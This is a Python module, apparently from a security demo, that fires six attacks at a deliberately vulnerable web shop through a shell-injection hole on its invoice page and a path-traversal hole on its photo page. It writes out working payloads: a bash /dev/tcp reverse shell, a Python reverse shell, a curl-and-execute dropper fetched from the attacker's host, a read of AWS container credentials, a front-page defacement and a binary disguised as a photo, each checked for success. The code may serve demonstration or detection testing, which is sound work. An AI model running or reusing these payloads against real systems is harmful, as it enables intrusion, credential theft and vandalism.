"""Six attacks through the shop's two holes. Each can tell from outside whether it worked."""

import time
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from urllib.parse import quote

from demo.attacker import Attacker

DEFACED = b"<h1>This shop is ours now</h1>\n"
PROOF_SECONDS = 2.0
"""How long an attacker waits for a sign of life before the attack counts as failed."""

Command = Callable[[Attacker], str]
Worked = Callable[[str, Attacker, bytes], bool]
"""Given the shop's address, the attacker and the answer to the attack: whether it worked."""


@dataclass(frozen=True)
class Attack:
    """A name for the table, the technique (ATT&CK), what the attacker types, and the test of success."""

    name: str
    technique: str
    typed: Command
    strike: Callable[[str, Attacker], bytes]
    """Send it to the shop at this address; return the answer."""
    worked: Worked


def through_injection(shop: str, command: str) -> bytes:
    """Run a shell command by way of the invoice page; return the page."""
    payload = quote(f"x'; {command} #")
    return _ask(f"{shop}/invoice?order=1&name={payload}")


def through_traversal(shop: str, path: str, content: bytes) -> bytes:
    """Write a file by way of the photo page; return the page."""
    return _ask(f"{shop}/photo?name={quote('../../../..' + path)}", content)


def _ask(url: str, body: bytes | None = None) -> bytes:
    try:
        with urllib.request.urlopen(url, data=body, timeout=25) as answer:
            return bytes(answer.read())
    except urllib.error.HTTPError as refused:
        return bytes(refused.read())
    except OSError as error:
        return str(error).encode()


def _injected(name: str, technique: str, command: Command, worked: Worked) -> Attack:
    return Attack(name, technique, command, lambda shop, us: through_injection(shop, command(us)), worked)


def _bash_shell(us: Attacker) -> str:
    return f"bash -c 'bash -i >& /dev/tcp/{us.address}/{us.shell_port} 0>&1'"


def _python_shell(us: Attacker) -> str:
    code = f's=socket.create_connection(("{us.address}",{us.shell_port}))'
    code += ";[os.dup2(s.fileno(),i) for i in (0,1,2)]"
    return f"python3 -c 'import os,socket,subprocess;{code};subprocess.call([\"/bin/sh\"])'"


def _dropper(us: Attacker) -> str:
    return f"curl -so /tmp/.d http://{us.address}:{us.web_port}/dropper; chmod +x /tmp/.d; /tmp/.d"


def _credentials(us: Attacker) -> str:
    relative = 'e["AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"]'
    where = f'e.get("AWS_CONTAINER_CREDENTIALS_FULL_URI")or"http://169.254.170.2"+{relative}'
    return f"python3 -c 'import os,urllib.request as u;e=os.environ;print(u.urlopen({where}).read())'"


def _copied_binary(us: Attacker) -> str:
    code = 'p="/var/lib/shop/photos/31337.jpg";shutil.copy("/usr/bin/id",p)'
    return f"python3 -c 'import os,shutil;{code};os.chmod(p,448);os.execv(p,[\"id\"])'"


def _shell_answered(shop: str, us: Attacker, answer: bytes) -> bool:
    return _soon(lambda: any("uid=" in said for said in us.shell_answers))


def _dropper_runs(shop: str, us: Attacker, answer: bytes) -> bool:
    return _soon(lambda: "/running" in us.fetched)


def _deface(shop: str, us: Attacker) -> bytes:
    return through_traversal(shop, "/var/www/shop/index.html", DEFACED)


def _front_page_is_ours(shop: str, us: Attacker, answer: bytes) -> bool:
    return DEFACED in _ask(f"{shop}/")


def _soon(condition: Callable[[], bool]) -> bool:
    deadline = time.monotonic() + PROOF_SECONDS
    while time.monotonic() < deadline:
        if condition():
            return True
        time.sleep(0.05)
    return condition()


ATTACKS = (
    _injected("reverse shell", "T1059.004", _bash_shell, _shell_answered),
    _injected("reverse shell in the shop's own Python", "T1059.006", _python_shell, _shell_answered),
    _injected("downloaded dropper", "T1105", _dropper, _dropper_runs),
    Attack(
        "write to the web root",
        "T1491.002",
        lambda us: "curl --data-binary @page '…/photo?name=../../../../var/www/shop/index.html'",
        _deface,
        _front_page_is_ours,
    ),
    _injected("the task's credentials", "T1552.005", _credentials, lambda s, us, got: b"AccessKeyId" in got),
    _injected(
        "copied binary, named as a photo", "T1036.008", _copied_binary, lambda s, us, got: b"uid=" in got
    ),
)


def run_all(shop: str, attacker: Attacker, told: Callable[[Attack, bool], None]) -> dict[str, bool]:
    """Try every attack in order; `told` hears of each. Return attack name → whether it worked."""
    results = {}
    for attack in ATTACKS:
        attacker.forget()
        answer = attack.strike(shop, attacker)
        results[attack.name] = attack.worked(shop, attacker, answer)
        told(attack, results[attack.name])
    return results
